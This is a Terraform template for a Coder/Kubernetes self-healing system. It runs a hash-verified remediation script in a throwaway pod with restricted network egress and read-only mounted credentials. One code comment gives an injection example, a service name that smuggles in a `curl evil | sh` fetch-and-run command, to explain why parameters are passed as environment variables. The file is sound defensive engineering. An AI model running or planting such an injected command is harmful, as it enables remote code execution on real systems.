# selfheal remediation workspace: one ephemeral pod per incident that runs the rendered fix
# as a start script and reports through the agent's lifecycle (ready / start_error /
# start_timeout). selfheal deletes the workspace on every path.
terraform {
  required_providers {
    coder = {
      source = "coder/coder"
    }
    kubernetes = {
      source = "hashicorp/kubernetes"
    }
  }
}

variable "namespace" {
  type        = string
  description = "Namespace for remediation pods (with the NetworkPolicy below)."
  default     = "selfheal-remediation"
}

variable "runner_image" {
  type        = string
  description = "Image built from infra/coder/runner/Dockerfile (psql, redis-cli, kubectl, curl)."
}

variable "service_account" {
  type        = string
  description = "Kubernetes service account with the narrow RBAC the runbooks need (no static cloud keys: use IRSA / workload identity)."
  default     = "selfheal-runner"
}

data "coder_workspace" "me" {}
data "coder_workspace_owner" "me" {}

# Parameters arrive as strings in rich_parameter_values. Immutable: a fix never changes after
# the workspace exists.
data "coder_parameter" "incident_id" {
  name    = "incident_id"
  type    = "string"
  mutable = false
  validation {
    regex = "^[A-Za-z0-9_-]{1,64}$"
    error = "an incident id is 1 to 64 letters, digits, '-' or '_'"
  }
}
data "coder_parameter" "service" {
  name    = "service"
  type    = "string"
  mutable = false
}
data "coder_parameter" "severity" {
  name    = "severity"
  type    = "string"
  mutable = false
  default = "high"
  validation {
    regex = "^(high|low)$"
    error = "severity is high or low"
  }
}
data "coder_parameter" "fix_script_b64" {
  name        = "fix_script_b64"
  type        = "string"
  mutable     = false
  description = "The rendered runbook action (or approved script), base64-encoded."
  validation {
    regex = "^[A-Za-z0-9+/]*={0,2}$"
    error = "the fix script must be base64"
  }
}
data "coder_parameter" "fix_script_sha256" {
  name        = "fix_script_sha256"
  type        = "string"
  mutable     = false
  description = "SHA-256 of the decoded fix script: the runner refuses any other script."
  validation {
    regex = "^[0-9a-f]{64}$"
    error = "a lowercase hex SHA-256"
  }
}
data "coder_parameter" "target" {
  name        = "target"
  type        = "string"
  mutable     = false
  description = "The service URL the fix acts on (also the only egress allowed besides Coder)."
}
data "coder_parameter" "target_cidr" {
  name        = "target_cidr"
  type        = "string"
  mutable     = false
  default     = "10.0.0.0/8"
  description = "Egress allowed for the fix (narrow this to the service's CIDR)."
}

# Parameter values reach the runner only as environment variables: no value is ever pasted into
# script text, so a service name like `x'; curl evil | sh; '` stays a name. (The old template
# interpolated them into single-quoted bash: any apostrophe broke every fix for that service.)
resource "coder_agent" "runner" {
  os   = "linux"
  arch = "amd64"
  env = {
    SELFHEAL_INCIDENT          = data.coder_parameter.incident_id.value
    SELFHEAL_SERVICE           = data.coder_parameter.service.value
    SELFHEAL_SEVERITY          = data.coder_parameter.severity.value
    SELFHEAL_TARGET            = data.coder_parameter.target.value
    SELFHEAL_FIX_SCRIPT_B64    = data.coder_parameter.fix_script_b64.value
    SELFHEAL_FIX_SCRIPT_SHA256 = data.coder_parameter.fix_script_sha256.value
  }
}

resource "coder_script" "fix" {
  agent_id           = coder_agent.runner.id
  display_name       = "selfheal fix"
  run_on_start       = true
  start_blocks_login = true
  timeout            = 600 # seconds; exceeding it marks the agent start_timeout
  log_path           = "selfheal-fix.log"
  # file(), not a template: the runner's text is the same for every workspace. A non-zero exit
  # marks the agent start_error, which selfheal reads as "fix failed".
  script = file("${path.module}/fix.sh")
}

# Credentials for the fix's target come from one Kubernetes secret per service, never from the
# prompt, the plan or the script: `selfheal-target-<service>` in var.namespace (keys such as
# `pg_service.conf`, `redis_password`), mounted read-only where fix.sh points
# SELFHEAL_TARGET_SECRETS. Optional: a service whose runbooks need no credentials has none.
locals {
  service_slug = trim(substr(replace(lower(data.coder_parameter.service.value), "/[^a-z0-9-]+/", "-"), 0, 47), "-")
}

resource "kubernetes_pod" "runner" {
  count = data.coder_workspace.me.start_count
  metadata {
    name      = "selfheal-${lower(data.coder_workspace.me.name)}"
    namespace = var.namespace
    labels = {
      "app.kubernetes.io/name" = "selfheal-runner"
      "selfheal/incident"      = lower(data.coder_parameter.incident_id.value)
    }
  }
  spec {
    service_account_name            = var.service_account
    automount_service_account_token = true
    restart_policy                  = "Never"
    active_deadline_seconds         = 1800
    security_context {
      run_as_non_root = true
      run_as_user     = 1000
    }
    volume {
      name = "target-credentials"
      secret {
        secret_name  = "selfheal-target-${local.service_slug}"
        optional     = true
        default_mode = "0400"
      }
    }
    container {
      name    = "runner"
      image   = var.runner_image
      command = ["sh", "-c", coder_agent.runner.init_script]
      env {
        name  = "CODER_AGENT_TOKEN"
        value = coder_agent.runner.token
      }
      volume_mount {
        name       = "target-credentials"
        mount_path = "/var/run/selfheal/target"
        read_only  = true
      }
      security_context {
        allow_privilege_escalation = false
        read_only_root_filesystem  = false
        capabilities {
          drop = ["ALL"]
        }
      }
      resources {
        limits = {
          cpu    = "500m"
          memory = "256Mi"
        }
      }
    }
  }
}

# Egress: only the target's CIDR and DNS, the Coder control plane (the agent connects to it: no
# default, a wrong value means no agent ever connects) and the Kubernetes API (kubectl runbooks).
# Everything else is denied.
variable "coder_cidr" {
  type        = string
  description = "CIDR of the Coder control plane the agent must reach (e.g. its load balancer's /32)."
  validation {
    condition     = can(cidrhost(var.coder_cidr, 0)) && !startswith(var.coder_cidr, "0.0.0.0/")
    error_message = "coder_cidr must be the Coder deployment's CIDR; 0.0.0.0/x would cut the agent off (or open everything)."
  }
}

variable "kube_api_cidr" {
  type        = string
  description = "CIDR of the Kubernetes API server (kubectl-based runbooks: rollout undo, exec, cert renew)."
  validation {
    condition     = can(cidrhost(var.kube_api_cidr, 0))
    error_message = "kube_api_cidr must be a CIDR."
  }
}

resource "kubernetes_network_policy" "runner_egress" {
  metadata {
    name      = "selfheal-${lower(data.coder_workspace.me.name)}-egress"
    namespace = var.namespace
  }
  spec {
    pod_selector {
      match_labels = {
        "selfheal/incident" = lower(data.coder_parameter.incident_id.value)
      }
    }
    policy_types = ["Egress"]
    egress {
      to {
        ip_block {
          cidr = data.coder_parameter.target_cidr.value
        }
      }
      to {
        ip_block {
          cidr = var.coder_cidr
        }
      }
      to {
        ip_block {
          cidr = var.kube_api_cidr
        }
      }
    }
    egress {
      ports {
        port     = "53"
        protocol = "UDP"
      }
    }
  }
}
